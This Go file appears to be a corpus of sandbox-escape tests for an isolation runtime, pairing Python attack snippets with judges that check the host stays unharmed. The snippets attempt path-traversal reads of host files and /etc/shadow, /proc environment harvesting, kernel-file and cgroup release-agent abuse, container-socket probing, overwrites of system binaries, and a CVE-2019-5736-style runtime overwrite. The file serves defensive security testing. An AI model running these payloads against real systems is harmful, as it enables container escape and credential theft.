package corpus

import (
	"path/filepath"
	"strings"

	"github.com/enclave-run/enclave"
)

// fileAttacks are group C: files, /proc, /sys.
var fileAttacks = []attack{
	{
		id:    "C01",
		smoke: true,
		boots: true,
		// The image has an /etc/shadow of its own, which may be read; the flag is in
		// a file that only the host has, and so are the host's accounts.
		code: `
print('$ARMED', flush=True)
for p in ('/etc/shadow', '$FLAG'):
    try: print(open(p).read())
    except OSError as e: print(p, e.errno)
`,
		judge:   hostAccounts,
		control: onBare(bare{}),
	},
	{
		id:    "C02",
		smoke: true,
		code: `
print('$ARMED', flush=True)
for p in ('/../../../..$FLAG', '/work/../..$FLAG', '/proc/self/root$FLAG', '/proc/1/root$FLAG', '/proc/1/cwd/../../../..$FLAG',
          '/proc/self/cwd/../../../..$FLAG', '/.enclave/../../../..$FLAG', '/host$FLAG', '/mnt$FLAG', '/dev/fd/0/../../..$FLAG'):
    try: print(open(p).read())
    except OSError as e: print(p, e.errno)
`,
		control: onBare(bare{}),
	},
	{
		id: "C04",
		instead: "nothing collects files from a sandbox; what looks at them is the counter of the disk, which must neither wait for " +
			"a FIFO nor take the length of a file with holes for what it holds",
		held:    true,
		onceEnd: true,
		code: `
import os, time
print('$ARMED', flush=True)
os.mkfifo('/work/out.json'); os.makedirs('/work/dir.json/' + 'd/' * 500)
try: open('/work/sparse', 'w').truncate(1 << 44)
except OSError as e: open('/work/sparse', 'w').truncate(1 << 40)
print('$HELD', flush=True); time.sleep(1)
`,
		judge: func(r *run) []finding {
			if r.bare || r.session.Outcome == enclave.Succeeded {
				return nil
			}
			return []finding{found(hostDoS, "files that hold nothing ended the session as %s %s", r.session.Outcome, r.session.KillReason)}
		},
		control: onBare(bare{look: collectNaively}),
	},
	{
		id: "C05",
		instead: "nothing unpacks an archive of a sandbox; what takes paths from outside is the list of files in a request, " +
			"which gets the same names",
		held: true,
		code: `
import io, signal, tarfile
t = tarfile.open('/work/a.tar', 'w')
for n in ('../../$NONCE', '/$NONCE-abs', 'a/../../$NONCE-dots'):
    i = tarfile.TarInfo(n); i.size = 1; t.addfile(i, io.BytesIO(b'x'))
i = tarfile.TarInfo('l'); i.type = b'2'; i.linkname = '/etc'; t.addfile(i)
i = tarfile.TarInfo('l/$NONCE-link'); i.size = 1; t.addfile(i, io.BytesIO(b'x')); t.close()
print('$ARMED', flush=True)
print('$HELD', flush=True); signal.pause()
`,
		judge:   filesOutsideAreRefused,
		control: onBare(bare{look: unpackNaively}),
	},
	{
		id:    "C07",
		smoke: true,
		code: `
import glob
print('$ARMED', flush=True)
for p in glob.glob('/proc/[0-9]*/environ') + glob.glob('/proc/[0-9]*/cmdline') + ['/proc/self/environ', '/proc/cmdline', '/proc/version']:
    try: print(p, open(p, 'rb').read()[:4000])
    except OSError as e: print(p, e.errno)
`,
		judge:   environmentOfTheHost,
		control: onBare(bare{}),
	},
	{
		id:    "C08",
		smoke: true,
		held:  true,
		code: `
import os, signal
print('$ARMED', flush=True)
for f in os.listdir('/proc/self/fd'):
    try: l = os.readlink('/proc/self/fd/' + f)
    except OSError: continue
    print(f, l)
    for up in ('', '/../..' ):
        try: print(os.listdir('/proc/self/fd/' + f + up)[:5])
        except OSError: pass
    try: print(open('/proc/self/fd/' + f + '/../../../../../..$FLAG').read())
    except OSError: pass
print('$HELD', flush=True); signal.pause()
`,
		judge:   directoriesLeftOpen,
		control: onBare(bare{image: true, inherit: func(r *run) string { return filepath.Dir(r.flagPath) }}),
	},
	{
		id:    "C10",
		smoke: true,
		code: `
print('$ARMED', flush=True)
for p in (` + quoted(kernelFiles) + `'/sys/fs/cgroup/memory.max', '/sys/fs/cgroup/pids/pids.max', '/proc/self/attr/exec', '/proc/1/oom_score_adj'):
    try: open(p, 'w').write('|/$NONCE'); print('WROTE', p)
    except OSError as e: print(p, e.errno)
`,
		control: onBare(bare{stand: kernelFiles}),
	},
	{
		id:    "C11",
		smoke: true,
		held:  true, // a group below the sandbox's own goes with it
		// By system calls: the image has no program called mount. Controllers that
		// the host has mounted: another would leave a hierarchy behind in the control.
		code: sc + `
def make(point, kind, data):
    os.makedirs(point, exist_ok=True)
    if sc(165, b'$NONCE', point.encode(), kind, 0, data) == 0:
        os.mkdir(point + '/$NONCE'); open(point + '/$NONCE/notify_on_release', 'w').write('1')
def attempt():
    for c in (b'memory', b'pids', b'freezer', b'devices'):
        try: make('/tmp/c-' + c.decode(), b'cgroup', c)
        except OSError as e: print(e)
    try: make('/tmp/c-2', b'cgroup2', 0)
    except OSError as e: print(e)
print('$ARMED', flush=True)
attempt()
if os.fork() == 0:
    sc(272, 0x10000000 | 0x20000 | 0x2000000)   # user, mount and cgroup namespaces of its own
    attempt(); os._exit(0)
os.wait()
for d in ['/sys/fs/cgroup'] + ['/sys/fs/cgroup/' + n for n in ('memory', 'pids', 'freezer', 'unified', 'systemd')]:
    try: os.mkdir(d + '/$NONCE')
    except OSError as e: print(e)
print('$HELD', flush=True); signal.pause()
`,
		control: onBare(bare{cgroups: true}),
	},
	{
		id:      "C13",
		smoke:   true,
		prepare: hostSockets,
		code: `
import glob, os, socket
print('$ARMED', flush=True)
for p in ['/var/run/docker.sock', '/run/containerd/containerd.sock', '/run/podman/podman.sock'] + glob.glob('/run/runsc*') + glob.glob('/run/enclave-*') + glob.glob('/tmp/enclave*'):
    if os.path.exists(p): print('FOUND', p)
for a in ('\0enclave-corpus-$NONCE', '/run/enclave-corpus-$NONCE.sock'):
    s = socket.socket(socket.AF_UNIX)
    try: s.connect(a); s.sendall(b'$NONCE'); print('CONNECTED', a[1:])
    except OSError as e: print(e)
print(open('/proc/net/unix').read())
`,
		judge: func(r *run) (all []finding) {
			for line := range strings.Lines(r.stdout()) {
				if strings.HasPrefix(line, "FOUND") || strings.Contains(line, "@"+ours) {
					all = append(all, found(hostLeak, "a socket of the host is seen: %s", strings.TrimSpace(line)))
				}
			}
			return append(all, hostPaths(r)...)
		},
		control: onBare(bare{network: true}),
	},
	{
		id:    "C14",
		smoke: true,
		boots: true,
		code: `
print('$ARMED', flush=True)
for p in ('/$NONCE', '/usr/bin/python3', '/etc/passwd', '/etc/ld.so.preload', '/lib/$NONCE.so', '/usr/bin/env', '/.enclave/enclave-guest', '/etc/resolv.conf'):
    try: open(p, 'a').write('x'); print('WROTE', p)
    except OSError as e: print(p, e.errno)
`,
		judge:   both(nothingWritten, nextSessionIsClean),
		control: onBare(bare{image: true}),
	},
	{
		id:    "C16",
		smoke: true,
		code: `
print('$ARMED', flush=True)
for p in ('mountinfo', 'mounts', 'mountstats', 'cgroup', 'cpuset'):
    try: print(open('/proc/self/' + p).read())
    except OSError as e: print(p, e)
`,
		judge:   mountsOfTheHost,
		control: onBare(bare{}),
	},
	{
		id: "C17",
		// A program that runs can't be written (ETXTBSY): the way of CVE-2019-5736 is
		// to keep it open and to write it when it ends.
		prepare: sumPrograms,
		code: `
import glob, os, time
held = []
for p in glob.glob('/proc/[0-9]*/exe') + ['/proc/self/exe', '/.enclave/enclave-guest']:
    try: held.append(os.open(p, os.O_RDONLY))
    except OSError as e: print(p, e.errno)
    try: held.append(os.open(p, os.O_PATH))
    except OSError as e: print(p, e.errno)
print('$ARMED', len(held), flush=True)
end = time.time() + 5
while time.time() < end:
    for f in held:
        try: os.write(os.open('/proc/self/fd/%d' % f, os.O_WRONLY | os.O_APPEND), b'$NONCE'); print('WROTE', os.readlink('/proc/self/fd/%d' % f)); end = 0
        except OSError: pass
    time.sleep(0.05)
`,
		judge:   programsAreWhatTheyWere,
		control: onBare(bare{companion: true}),
	},
}
